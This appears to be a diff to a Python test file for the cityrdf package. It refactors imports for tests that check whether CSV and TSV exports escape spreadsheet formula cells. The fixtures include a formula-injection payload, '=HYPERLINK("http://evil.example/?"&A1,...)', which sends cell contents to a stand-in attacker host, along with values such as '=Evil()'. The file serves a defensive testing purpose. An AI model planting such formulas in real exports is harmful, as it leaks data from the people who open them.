@@ -8,7 +8,10 @@ import io
 import pyoxigraph as ox
 import pytest
 
-from cityrdf import compare, csvsafe, link, query
+from cityrdf import compare, csvsafe, query
+from cityrdf.links.mapping_set import sssom_table
+from cityrdf.links.model import Candidate, Decision, Place
+from cityrdf.links.review import review_table
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -63,9 +66,9 @@ def test_query_csv_answers_escape_formula_cells():
     assert rows[2] == ["https://w3id.org/cityrdf/id/city/y", "-3"]
 
 
-def hostile_decisions(accepted: bool) -> list[link.Decision]:
-    place = link.Place("https://w3id.org/cityrdf/id/city/x", "city", label_en="=Evil()")
-    candidate = link.Candidate(
+def hostile_decisions(accepted: bool) -> list[Decision]:
+    place = Place("https://w3id.org/cityrdf/id/city/x", "city", label_en="=Evil()")
+    candidate = Candidate(
         place.iri,
         "wikidata",
         "http://www.wikidata.org/entity/Q1",
@@ -76,7 +79,7 @@ def hostile_decisions(accepted: bool) -> list[link.Decision]:
         ["+label match"],
     )
     return [
-        link.Decision(
+        Decision(
             place,
             "wikidata",
             candidate if accepted else None,
@@ -87,7 +90,7 @@ def hostile_decisions(accepted: bool) -> list[link.Decision]:
 
 
 def test_link_review_csv_escapes_formula_cells():
-    rows = cells(link.review_table(hostile_decisions(accepted=False)))
+    rows = cells(review_table(hostile_decisions(accepted=False)))
     row = dict(zip(rows[0], rows[1]))
     assert (row["place_label"], row["candidate_label"], row["evidence"]) == (
         "'=Evil()",
@@ -97,7 +100,7 @@ def test_link_review_csv_escapes_formula_cells():
 
 
 def test_sssom_tsv_escapes_formula_labels():
-    text = link.sssom_table(hostile_decisions(accepted=True), dt.date(2026, 1, 1))
+    text = sssom_table(hostile_decisions(accepted=True), dt.date(2026, 1, 1))
     table = [line for line in text.splitlines() if not line.startswith("#")]
     rows = cells("\n".join(table), delimiter="\t")
     row = dict(zip(rows[0], rows[1]))
